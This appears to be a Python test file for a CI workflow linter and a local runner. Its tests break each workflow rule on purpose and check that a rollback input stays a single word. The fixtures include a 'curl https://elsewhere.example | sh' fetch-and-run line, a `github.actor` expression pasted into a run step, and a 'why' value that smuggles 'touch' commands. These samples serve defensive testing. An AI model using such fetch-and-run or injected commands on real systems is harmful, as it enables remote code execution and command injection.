"""Workflows keep their rules, each rule is broken once here, and they run without GitHub; the drill notices what it is for."""

from __future__ import annotations

import dataclasses
import subprocess
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from tools import workflow_drill, workflows
from tools.actions.upload_artifact.upload import upload
from tools.prepare.failure import Failure
from tools.workflow_drill import Drill
from tools.workflows import Ran, Runner, Workflow, faults

SOUND = """
name: sound
on:
  push:
    branches: [main]
permissions:
  contents: read
concurrency:
  group: sound
  cancel-in-progress: false
jobs:
  one:
    runs-on: ubuntu-latest
    timeout-minutes: 5
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
        with:
          persist-credentials: false
      - run: make ship
"""
UPLOAD = """
      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2
        if: ${{ !cancelled() }}
        with:
          name: reports
          path: .alexandrite/reports
          include-hidden-files: true
          if-no-files-found: error
"""

# Its Python says each word it was given on a line of its own.
MAKEFILE = """
ship:
\t@mkdir -p .alexandrite/reports; echo '<testsuite/>' > .alexandrite/reports/unit.xml
\t@exit $${STATUS:-0}
prepare:
\t@mkdir -p .venv/bin; echo '#!/bin/sh' > .venv/bin/python
\t@echo 'for word; do echo "<$$word>"; done' >> .venv/bin/python; chmod +x .venv/bin/python
pages:
\t@true
"""


def workflow(tmp_path: Path, text: str) -> Workflow:
    path = tmp_path / "one.yml"
    path.write_text(text, encoding="utf-8")
    return Workflow.read(path)


def test_ours_keep_every_rule() -> None:
    assert workflows.check() == []
    names = {path.name for path in (workflows.ROOT / workflows.WORKFLOWS).glob("*.yml")}
    assert names == {"pull-request.yml", "main.yml", "promote.yml", "rollback.yml", "nightly.yml"}


def test_everything_of_ours_can_be_run_here() -> None:
    runner = Runner(workflows.ROOT, Path("artifacts"))
    for path in sorted((workflows.ROOT / workflows.WORKFLOWS).glob("*.yml")):
        assert runner.command(Workflow.read(path), Path("work"), inputs={})


def test_a_sound_workflow_has_no_faults(tmp_path: Path) -> None:
    assert faults(workflow(tmp_path, SOUND)) == []


@pytest.mark.parametrize(
    ("sound", "broken", "noticed"),
    [
        ("name: sound", "name: sound" + "\n#" * 60, "60 at most"),
        ("  contents: read", "  contents: write", "permissions"),
        ("permissions:\n  contents: read\n", "", "permissions"),
        ("    timeout-minutes: 5\n", "", "timeout-minutes"),
        ("    timeout-minutes: 5\n", "    timeout-minutes: 5\n    permissions: write-all\n", "permissions of its own"),
        ("concurrency:\n  group: sound\n  cancel-in-progress: false\n", "", "concurrency"),
        ("cancel-in-progress: false", "cancel-in-progress: true", "cancelled while it changes"),
        ("@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2", "@v4", "not pinned"),
        ("persist-credentials: false", "fetch-depth: 0", "credentials"),
        ("make ship", "curl https://elsewhere.example | sh", "does more"),
        ("make ship", "makeshift", "does more"),
        ("- run: make ship", "- run: |\n          make ship\n          echo done", "does more"),
        ("make ship", "make ship BY=${{ github.actor }}", "pastes"),
        ("  push:\n    branches: [main]\n", "  pull_request:\n", ""),
    ],
)
def test_each_rule_is_noticed_when_broken(tmp_path: Path, sound: str, broken: str, noticed: str) -> None:
    assert sound in SOUND
    found = faults(workflow(tmp_path, SOUND.replace(sound, broken)))
    if noticed:
        assert any(noticed in fault for fault in found), found
    else:
        assert found == []


def test_a_stranger_never_gets_our_machine(tmp_path: Path) -> None:
    text = SOUND.replace("  push:\n    branches: [main]\n", "  pull_request:\n").replace("ubuntu-latest", "alexandrite")
    assert any("stranger" in fault for fault in faults(workflow(tmp_path, text)))


def test_an_action_without_a_stand_in_is_named(tmp_path: Path) -> None:
    text = SOUND.replace("      - run: make ship", f"      - uses: someone/thing@{'a' * 40}\n      - run: make ship")
    with pytest.raises(Failure, match="someone/thing"):
        Runner(tmp_path, tmp_path).command(workflow(tmp_path, text), tmp_path, inputs={})


def test_no_workflows_is_no_pass(tmp_path: Path) -> None:
    with pytest.raises(Failure, match="no workflows"):
        workflows.check(tmp_path)


# -- under act ---------------------------------------------------------------------------------------------------------------


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    """A repository with a workflow that says `make ship` and uploads, and a Makefile that says what it got."""
    root = tmp_path / "checkout"
    (root / workflows.WORKFLOWS).mkdir(parents=True)
    (root / workflows.WORKFLOWS / "main.yml").write_text(SOUND + UPLOAD, encoding="utf-8")
    (root / "Makefile").write_text(MAKEFILE, encoding="utf-8")
    (root / ".gitignore").write_text(".alexandrite/\n.venv/\n", encoding="utf-8")
    return committed(root)


def committed(root: Path) -> Path:
    for command in (["init", "--quiet", "--initial-branch=main"], ["add", "--all"], ["commit", "--quiet", "-m", "All"]):
        subprocess.run(["git", *workflow_drill.IDENTITY, *command], cwd=root, check=True)
    return root


def test_a_workflow_runs_without_github_and_its_artifact_is_kept(checkout: Path, tmp_path: Path) -> None:
    ran = Runner(checkout, tmp_path / "artifacts").run("main.yml", quiet=True)
    assert ran.status == 0, ran.output
    assert (tmp_path / "artifacts" / "reports" / "unit.xml").read_text(encoding="utf-8") == "<testsuite/>\n"
    assert not (checkout / ".alexandrite").exists(), "it ran in a copy"


def test_a_failing_step_fails_the_run_and_its_artifact_is_kept_all_the_same(checkout: Path, tmp_path: Path) -> None:
    ran = Runner(checkout, tmp_path / "artifacts", environment={"STATUS": "1"}).run("main.yml", quiet=True)
    assert ran.status != 0
    assert (tmp_path / "artifacts" / "reports" / "unit.xml").is_file()


def test_what_a_person_types_stays_one_word(checkout: Path, tmp_path: Path) -> None:
    text = (workflows.ROOT / workflows.WORKFLOWS / "rollback.yml").read_text(encoding="utf-8")
    (checkout / workflows.WORKFLOWS / "rollback.yml").write_text(text, encoding="utf-8")
    pasted = tmp_path / "pasted"
    why = f'the price is wrong"; touch {pasted}; echo "$(touch {pasted})'
    variables = {"RELEASE_HOME": str(tmp_path / "home")}
    inputs = {"environment": "production", "why": why}
    ran = Runner(committed(checkout), tmp_path / "artifacts", variables).run("rollback.yml", inputs=inputs, quiet=True)
    assert ran.status == 0, ran.output
    assert f"<--why={why}>" in ran.output
    assert "<production>" in ran.output
    assert not pasted.exists()


# -- the stand-in ------------------------------------------------------------------------------------------------------------


def inputs(**other: str) -> dict[str, str]:
    return {"NAME": "reports", "PATHS": "reports", "NOT_FOUND": "error", "HIDDEN": "false", **other}


def test_hidden_files_are_left_out_unless_asked_for(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / ".hidden" / "deep").mkdir(parents=True)
    (tmp_path / ".hidden" / "deep" / "one.xml").write_text("1", encoding="utf-8")
    with pytest.raises(LookupError, match="No file was found"):
        upload(inputs(PATHS=".hidden"), tmp_path / "store")
    assert upload(inputs(PATHS=".hidden", NOT_FOUND="warn"), tmp_path / "store") == 0
    assert upload(inputs(PATHS=".hidden", HIDDEN="true"), tmp_path / "store") == 1
    assert (tmp_path / "store" / "reports" / "deep" / "one.xml").is_file()


# -- the drill ---------------------------------------------------------------------------------------------------------------

DIGEST = "d" * 64


@dataclass(frozen=True)
class Rehearsal(Drill):
    """A drill whose pipeline is played: what it says, where it pins, how it ends."""

    played: dict[str, Any] = field(default_factory=dict)

    def push(self, *, first: bool = False) -> Ran:
        return Ran(self.played["status"], "", self.directory)

    def pinned(self) -> dict[str, str | None]:
        pins = self.played["pins"]
        return {name: pins.pop(0) if len(pins) > 1 else pins[0] for name in ("production",)}

    def said(self) -> list[dict[str, Any]]:
        commit = self.head()
        built = {"predicateType": "https://alexandrite.example/candidate/v1", "predicate": {"commit": commit}}
        rest = [{"predicateType": kind, "predicate": predicate} for kind, predicate in self.played["said"]]
        return [{**one, "subject": [{"digest": {"sha256": DIGEST}}]} for one in (built, *rest)]


FAILED = ("test-result/v0.1", {"gate": "unit", "verdict": "FAILED"})
PROMOTED = ("x/promotion/v1", {"environment": "dev", "step": "start", "outcome": "done"})


@pytest.fixture
def rehearsal(tmp_path: Path) -> Callable[..., Rehearsal]:
    clone = tmp_path / "clone"
    (clone / workflow_drill.BAD.file).parent.mkdir(parents=True)
    (clone / workflow_drill.BAD.file).write_text(workflow_drill.BAD.present, encoding="utf-8")
    committed(clone)
    return lambda **played: Rehearsal(tmp_path, played=played)


def test_a_bad_commit_that_is_stopped_by_a_gate_holds(rehearsal: Callable[..., Rehearsal]) -> None:
    drill = rehearsal(status=1, pins=["old"], said=[FAILED])
    workflow_drill.bad_commit(drill)
    assert (drill.clone / workflow_drill.BAD.file).read_text(encoding="utf-8") == workflow_drill.BAD.present


@pytest.mark.parametrize(
    ("played", "noticed"),
    [
        ({"status": 0, "pins": ["old"], "said": [FAILED]}, "a bad commit was shipped"),
        ({"status": 1, "pins": ["old", "new"], "said": [FAILED]}, "environments changed"),
        ({"status": 1, "pins": ["old"], "said": []}, "no gate says FAILED"),
        (
            {"status": 1, "pins": ["old"], "said": [("t", {"gate": "unit", "verdict": "ERRORED"})]},
            "no gate says FAILED",
        ),
        ({"status": 1, "pins": ["old"], "said": [FAILED, PROMOTED]}, "on its way into"),
    ],
)
def test_the_drill_notices_what_it_is_for(
    rehearsal: Callable[..., Rehearsal], played: dict[str, Any], noticed: str
) -> None:
    with pytest.raises(Failure, match=noticed):
        workflow_drill.bad_commit(rehearsal(**played))


def test_a_good_commit_must_arrive_untouched(rehearsal: Callable[..., Rehearsal]) -> None:
    with pytest.raises(Failure, match="should run everywhere"):
        workflow_drill.good_commit(rehearsal(status=0, pins=["old"], said=[]))
    with pytest.raises(Failure, match="status 1"):
        workflow_drill.good_commit(rehearsal(status=1, pins=["old"], said=[]))


def test_an_outdated_patch_is_no_bad_commit(rehearsal: Callable[..., Rehearsal]) -> None:
    switch = dataclasses.replace(workflow_drill.BAD, present="text that is nowhere")
    with pytest.raises(Failure, match="out of date"):
        workflow_drill.bad_commit(rehearsal(status=1, pins=["old"], said=[]), switch)
